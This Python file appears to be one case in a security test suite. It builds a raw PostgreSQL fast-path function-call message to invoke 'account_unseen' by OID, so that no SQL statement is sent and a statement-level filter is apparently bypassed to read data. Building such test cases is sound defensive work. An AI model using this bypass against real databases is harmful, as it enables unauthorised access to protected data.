"""Reads by the fast path, which has no statement."""

import struct

from attacks.frames import ask, message
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        with server.connect() as session:
            row = session.execute("SELECT 'account_unseen(int)'::regprocedure::oid::int").fetchone()
        assert row is not None
        call = struct.pack("!IHHHII", int(str(row[0])), 1, 1, 1, 4, 1) + struct.pack("!H", 1)
        return ask(client, message(b"F", call))
